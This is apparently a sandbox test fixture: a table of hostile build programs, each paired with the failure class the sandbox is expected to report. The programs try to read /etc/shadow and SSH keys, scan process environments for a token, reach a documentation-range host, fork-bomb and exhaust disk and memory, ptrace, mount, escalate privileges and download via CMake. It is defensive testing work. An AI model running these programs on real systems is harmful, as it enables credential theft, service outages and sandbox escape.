"""What hostile builds try, one attack each, and what each must be called in the end."""

from __future__ import annotations

from support.hostile import Hostile

REPORT = """
import os, sys, socket, time, ctypes, pathlib, json
aim = json.loads(sys.argv[2])
def won(what):
    print('the attack won:', what, flush=True)
"""


def _python(name: str, program: str, *classes: str, **more: object) -> Hostile:
    return Hostile(name, REPORT + program, frozenset(classes), **more)  # type: ignore[arg-type]


def _cmake(name: str, text: str, *classes: str, **more: object) -> Hostile:
    program = (
        "import os\nos.execvp('cmake', ['cmake', '-S', '/source', '-B', '/job/b', '-G', 'Ninja'])"
    )
    head = "cmake_minimum_required(VERSION 3.16)\nproject(hostile NONE)\n"
    return _python(
        name,
        program,
        *classes,
        files=(("CMakeLists.txt", head + text),),
        needs=("cmake", "ninja"),
        **more,
    )


TABLE = (
    _python(
        "reads a secret file",
        """
refused = 0
keys = os.path.join('/root', '.ssh', 'id_ed25519')
for path in (aim['secret'], '/etc/shadow', keys, '/proc/1/root' + aim['secret']):
    try:
        open(path, 'rb').read(); won(path)
    except OSError: refused += 1
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "reads the parent's environment",
        """
for path in pathlib.Path('/proc').glob('[0-9]*/environ'):
    try:
        if aim['token'].encode() in path.read_bytes(): won(str(path))
    except OSError: pass
if aim['token'] in str(dict(os.environ)): won('inherited')
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "opens TCP sockets",
        """
for address in (('127.0.0.1', aim['tcp']), ('192.0.2.1', 443), ('192.0.2.1', 22)):
    with socket.socket() as s:
        s.settimeout(2)
        try: s.connect(address); won(str(address))
        except TimeoutError: won('a route')
        except OSError: pass
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "sends UDP",
        """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    try: s.sendto(b'x', ('192.0.2.1', 53)); won('a datagram left')
    except OSError: pass
    try: s.sendto(b'x', ('127.0.0.1', aim['udp']))
    except OSError: pass
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "opens abstract unix sockets",
        """
for address in ('\\0' + aim['abstract'], aim['unix'], '/var/run/docker.sock', '/run/dbus/x'):
    with socket.socket(socket.AF_UNIX) as s:
        try: s.connect(address); won(repr(address))
        except OSError: pass
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "writes outside",
        """
for folder in ('/', '/usr', '/usr/lib', '/etc', '/dev', '/source', '/sys', '/proc/sys/kernel',
               aim['outside'], '/job/../..', '/proc/1/root/usr'):
    try: open(folder + '/planted', 'w').close(); won(folder)
    except OSError: pass
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "fork bomb",
        """
while True:
    try: os.fork()
    except OSError: time.sleep(0.01)
""",
        "process_limit",
    ),
    _python(
        "fills the disk",
        """
for n in range(4000):
    with open(f'/job/{n}', 'wb') as f:
        f.write(os.urandom(1 << 20))
""",
        "disk_limit",
    ),
    _python(
        "writes one endless file",
        """
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
with open('/job/big', 'wb') as f:
    while True: f.seek(1 << 20, 1); f.write(b'x')
""",
        "file_limit",
        "disk_limit",
    ),
    _python(
        "10 GB of output",
        """
for _ in range(10 * (1 << 30) >> 16): os.write(1, b'x' * 65535 + b'\\n')
""",
        "output_limit",
    ),
    _python(
        "takes all memory",
        """
held = []
while True: held.append(bytearray(8 << 20))
""",
        "memory_limit",
        "exit",  # without control groups
    ),
    _python(
        "ignores SIGTERM",
        """
import signal
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: print('.', flush=True); time.sleep(0.1)
""",
        "timeout",
        timeout_seconds=2,
    ),
    _python(
        "double-forks away",
        """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.environ.clear()
        for fd in (0, 1, 2): os.close(fd)
        os.execve('/bin/sleep', [aim['token'], '3600'], {})
    os._exit(0)
time.sleep(0.3)
""",
        "",
    ),
    _python(
        "traces other processes",
        """
libc = ctypes.CDLL(None, use_errno=True)
for pid in (aim['pid'], aim['parent']):
    if libc.ptrace(16, pid, 0, 0) == 0: won(f'traces {pid}')
    try: os.kill(pid, 0); won(f'may signal {pid}')
    except OSError: pass
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "mounts",
        """
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x00020000, 0x10000000 | 0x00020000):
    if libc.unshare(flags) == 0: won(f'unshare {flags:x}')
for kind in (b'tmpfs', b'proc', b'overlay'):
    if libc.mount(b'x', b'/job', kind, 0, b'') == 0: won(f'mount {kind}')
if libc.mount(None, b'/usr', None, 32 | 4096, None) == 0: won('remounts /usr')
if libc.chroot(b'/job') == 0: won('chroot')
sys.exit(1)
""",
        "exit",
    ),
    _python(
        "becomes another user",
        """
for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])):
    try: change(); won('another user')
    except OSError: pass
import shutil
shutil.copy('/bin/sh', '/job/sh'); os.chmod('/job/sh', 0o6755)
""",
        "artifact_refused",
    ),
    _python(
        "fills /dev/shm",
        """
with open('/dev/shm/x', 'wb', buffering=0) as f:
    while True: f.write(bytes(1 << 20))
""",
        "memory_limit",
        "exit",
    ),
    _python(
        "deep folder bomb",
        """
os.chdir('/job')
for _ in range(1200): os.mkdir('d' * 100); os.chdir('d' * 100)
""",
        "artifact_refused",
    ),
    _python(
        "link out of the artifact",
        "os.symlink('/etc/shadow', '/job/libx.so')",
        "artifact_refused",
    ),
    _python(
        "device nodes",
        """
for kind in (0o060000, 0o020000):
    try: os.mknod('/job/disk', kind | 0o666, os.makedev(1, 3)); won('a device')
    except OSError: pass
os.mkfifo('/job/pipe')
""",
        "artifact_refused",
    ),
    _python(
        "RPATH to a library of the host",
        """
import subprocess
words = ['cc', '-shared', '-o', '/job/libx.so', '-Wl,-rpath,/usr/local/lib', '/source/x.c']
subprocess.run(words, check=True)
""",
        "library_path",
        files=(("x.c", "int x(void) { return 1; }\n"),),
        needs=("cc",),
    ),
    _python(
        "a program for another machine",
        """
head = bytearray(open('/usr/bin/env', 'rb').read())
head[18:20] = (183 if aim['machine'] != 'aarch64' else 62).to_bytes(2, 'little')
open('/job/llama-server', 'wb').write(head)
""",
        "wrong_machine",
    ),
    _cmake(
        "CMake that downloads",
        'file(DOWNLOAD "http://192.0.2.1/x" ${CMAKE_BINARY_DIR}/x TIMEOUT 5 STATUS said)\n'
        'list(GET said 0 code)\nif(code EQUAL 0)\n  message("the attack won: download")\nendif()\n'
        'message(FATAL_ERROR "download failed: ${said}")\n',
        "configure_error",
        "network_refused",
        "network",
    ),
    _cmake(
        "endless configure",
        "while(TRUE)\nendwhile()\n",
        "silent",
        silence_seconds=2,
    ),
)
